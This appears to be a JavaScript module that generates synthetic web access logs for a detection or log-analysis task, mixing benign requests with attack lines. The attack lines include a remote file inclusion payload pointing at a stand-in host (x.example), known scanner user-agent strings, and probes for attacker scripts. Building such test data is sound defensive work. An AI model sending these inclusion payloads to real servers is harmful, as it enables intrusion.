import { Clients } from './clients.mjs';
import { Dice } from './dice.mjs';
import { LogClock, months } from './log-clock.mjs';
import { userAgents } from './user-agents.mjs';

const dirs =
  'news forum e107_plugins e107_themes articles images static assets js css user admin api/v1 api/v2 shop blog wp-content wp-includes media download search help about tag category 2023/11 2024/02'.split(
    ' ',
  );
// Near misses such as contact, config, help, perl and bot are there on purpose.
const words =
  'alpha beta release update server config contact help start login signup cart basket product item photo video gallery comment reply thread topic post page index main home user profile setting search result list view edit delete new old archive feed rss sitemap robots favicon logo banner header footer style theme script jquery bootstrap vendor bundle chunk runtime font awesome roboto perl ruby java bot agent poster performance'.split(
    ' ',
  );
const extensions = '.php .php .html .js .css .png .jpg .svg .woff2   / .json .ico .gif .webp'.split(' ');
const hosts =
  'www.example.org example.org www.google.com duckduckgo.com www.bing.com forum.example.net news.ycombinator.com t.co'.split(
    ' ',
  );
const bots = 'Casper b3b4s dex Dex kmccrew plaNETWORK sasqia sledink indocom'.split(' ');
const scripts = ['help_us', 'contact', 'config', 'avd_start', '*'];

/** What only an attack asks for: a benign line must not look like a hit. */
const attackPath = /\/(help_us|contact|config|avd_start|\*)\.php/;

/** @param {Date} time */
function stamp(time) {
  const [date = '', clock] = time.toISOString().split(/[T.]/);
  const [year, , day] = date.split('-');
  return `${day}/${months[time.getUTCMonth()]}/${year}:${clock} +0000`;
}

/** Lines of one access log in the combined format, each with its break. */
export class AccessLog {
  #dice;
  #hitRate;
  #clients;
  #clock;

  /**
   * @param {number} seed
   * @param {number} hitRate share of lines from the attack, 0 to 1
   */
  constructor(seed, hitRate) {
    this.#dice = new Dice(seed);
    this.#hitRate = hitRate;
    this.#clients = new Clients(this.#dice);
    this.#clock = new LogClock(this.#dice, 1 / 20, stamp);
  }

  #anyPath() {
    const dice = this.#dice;
    const word = () => dice.pick(words);
    const dir = () => dice.pick(dirs);
    switch (dice.below(12)) {
      case 0:
        return '/';
      case 1:
        return `/${dir()}/${word()}.php?id=${dice.below(1e6)}&${word()}=${word()}`;
      case 2:
        return `/${dir()}/${word()}-${word()}-${dice.below(1e6)}${dice.pick(extensions)}`;
      case 3:
        return `/index.php?${word()}=${dice.below(1e6)}`;
      case 4:
        return `/wp-${word()}/${word()}.php`;
      case 5:
        return `/search?q=${word()}+${word()}+${word()}&page=${dice.below(50)}`;
      case 6:
        return `/${dir()}/${dir()}/${word()}.${dice.hex(0x1000000)}.min.${dice.pick(['js', 'css'])}`;
      case 7:
        return `/${dir()}/${word()}_${word()}.php?${dice.below(1e6)}.${dice.below(1e6)}`;
      default:
        return `/${dir()}/${word()}${dice.below(100)}${dice.pick(extensions)}`;
    }
  }

  #path() {
    for (;;) {
      const path = this.#anyPath();
      if (!attackPath.test(path)) return path;
    }
  }

  #referer() {
    if (this.#dice.chance(0.35)) return '-';
    return `https://${this.#dice.pick(hosts)}${this.#dice.chance(0.3) ? '/' : this.#path()}`;
  }

  #agent() {
    const dice = this.#dice;
    return dice.pick(userAgents)(90 + dice.below(40), dice.below(6000), dice.below(200), dice.below(10));
  }

  /**
   * @template T
   * @param {...[below: number, T]} share cumulative percentages, to 100, with what they stand for
   * @returns {T}
   */
  #byShare(...share) {
    const drawn = this.#dice.below(100);
    const [, found] = /** @type {[number, T]} */ (share.find(([below]) => drawn < below));
    return found;
  }

  #benign() {
    const method = this.#byShare([88, 'GET'], [97, 'POST'], [99, 'HEAD'], [100, 'OPTIONS']);
    const status = this.#byShare([82, 200], [88, 304], [92, 301], [97, 404], [99, 403], [100, 500]);
    return { method, status, path: this.#path(), referer: this.#referer(), agent: this.#agent() };
  }

  #attack() {
    const dice = this.#dice;
    const path = this.#path();
    const referer = this.#referer();
    switch (dice.below(6)) {
      case 0: {
        const script = `/${dice.pick(dirs)}/${dice.pick(scripts)}.php?x=${dice.below(1e6)}`;
        return { method: dice.pick(['GET', 'POST']), status: 200, path: script, referer, agent: this.#agent() };
      }
      case 1:
        return { method: 'GET', status: 404, path, referer, agent: `${dice.pick(bots)} Bot Search` };
      case 2: {
        const inclusion = `${path}//?_SERVER[DOCUMENT_ROOT]=http://x.example/id.txt??`;
        return { method: 'GET', status: 200, path: inclusion, referer, agent: 'MaMa CaSpEr' };
      }
      case 3:
        return { method: 'GET', status: 200, path, referer, agent: 'rk q kangen' };
      case 4:
        return { method: 'POST', status: 200, path, referer, agent: 'Mozilla/4.76 [ru] (X11; U; SunOS 5.7 sun4u)' };
      default:
        return { method: 'GET', status: 404, path, referer, agent: 'perl post' };
    }
  }

  line() {
    const dice = this.#dice;
    const isHit = dice.chance(this.#hitRate);
    const client = this.#clients.next();
    // The rules of the attack ask for a user of "-".
    const user = !isHit && dice.below(50) === 0 ? dice.pick(words) : '-';
    const time = this.#clock.next();
    const { method, status, path, referer, agent } = isHit ? this.#attack() : this.#benign();
    const version = dice.below(4) === 0 ? '2.0' : '1.1';
    return `${client} - ${user} [${time}] "${method} ${path} HTTP/${version}" ${status} ${dice.below(120_000)} "${referer}" "${agent}"\n`;
  }
}
